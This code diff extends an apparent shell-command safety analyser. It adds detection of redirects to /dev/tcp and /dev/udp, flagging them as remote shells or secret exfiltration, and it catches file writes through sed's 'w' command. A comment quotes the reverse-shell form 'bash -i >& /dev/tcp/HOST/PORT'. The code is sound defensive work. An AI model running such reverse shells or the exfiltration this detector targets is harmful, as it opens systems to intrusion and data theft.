@@ -1,4 +1,5 @@
 import type { RedirectTo, SimpleCommand } from '../../shell/simple-command.ts'
+import { isShell } from '../../shell/wrappers/wrappers.ts'
 import { folderAbove } from '../places.ts'
 import { hasTokenSign } from '../program-names.ts'
 import { has, type Look, type Scene, withoutValues } from '../scene.ts'
@@ -6,6 +7,7 @@ import { TOKEN } from '../tokens.ts'
 
 import { deletesFound, STANDS_FOR } from './delete-files.ts'
 import { FINDERS, foldersSought } from './find.ts'
+import { isThisMachine, showsSecret } from './sending.ts'
 
 /** Into a folder a file goes under its own name. */
 export function writesInto(target: string, sources: readonly string[], command: SimpleCommand, scene: Scene) {
@@ -33,6 +35,7 @@ export function writes(word: string, operator: string, command: SimpleCommand, s
     deletesFound(command, scene, scene.commands.indexOf(command))
   if (place === 'nothing' || scene.elsewhere(command) === 'container') return
   if (place !== 'secret' && writesToken(command, scene)) scene.add('writes', 'token', command, path)
+  if (CONNECTION.test(path)) return connects(path, command, scene)
   if (place === 'device') return scene.add('formats', 'disk', command, path)
   if (place === 'system' && !CORE.test(path)) return lateOver(path, command, scene)
   if (place === 'secret') {
@@ -48,6 +51,16 @@ export function writes(word: string, operator: string, command: SimpleCommand, s
   if (place === 'everything' || place === 'home' || place === 'unset' || place === 'root') return
   const emptied = place === 'inside' && isEmptying(command) && !appends && CODE_FILE.test(path)
   scene.add('writes', emptied ? 'sources' : place, command, path)
+}
+
+/** A connection that the shell makes itself: `bash -i >& /dev/tcp/HOST/PORT`. */
+const CONNECTION = /^\/dev\/(?:tcp|udp)\//
+
+function connects(path: string, command: SimpleCommand, scene: Scene) {
+  if (isThisMachine(path.split('/')[3] ?? '')) return
+  if (isShell(command.name) || command.name === 'exec') return scene.add('runs', 'remote', command, path)
+  const told = [command, ...scene.feeding(scene.commands.indexOf(command))]
+  if (told.some((each) => showsSecret(each, scene))) scene.add('sends', 'secret', command, path)
 }
 
 /** What it writes stands in the text, and a key or a token in it. The project's own file of variables is where they belong. */
@@ -115,7 +128,10 @@ function soughtBy(command: SimpleCommand, scene: Scene): readonly string[] {
 
 /** `sed -i`, `perl -i`, `patch`, `ed`: the file is changed where it stands. */
 export const editInPlace: Look = (command, scene) => {
-  if (/^g?sed$/.test(command.name)) runsLines(command, scene)
+  if (/^g?sed$/.test(command.name)) {
+    runsLines(command, scene)
+    writesLines(command, scene)
+  }
   if (command.name === 'sed' && !command.flags.some((flag) => /^-[a-zA-Z]*i|^--in-place/.test(flag))) return
   const files =
     command.name === 'sed' && !has(command, '-e', '--expression', '-f') ? command.args.slice(1) : command.args
@@ -129,6 +145,15 @@ export const editInPlace: Look = (command, scene) => {
 }
 
 const LONGEST_SCRIPT = 2000
+
+/** sed writes into what stands behind its `w`, also behind a replacement. */
+function writesLines(command: SimpleCommand, scene: Scene) {
+  for (const word of command.words.slice(1)) {
+    if (word.length > LONGEST_SCRIPT) continue
+    for (const [, file = ''] of word.matchAll(/(?:^|[;{}\n\d$]|[/|#,][gpiIm\d]*)\s*[wW] +(\S+)/g))
+      if (/[./]/.test(file) && !file.startsWith('~')) writes(file, '>', command, scene)
+  }
+}
 
 /** sed runs what stands behind its `e`, and with that flag what a replacement comes to. */
 function runsLines(command: SimpleCommand, scene: Scene) {
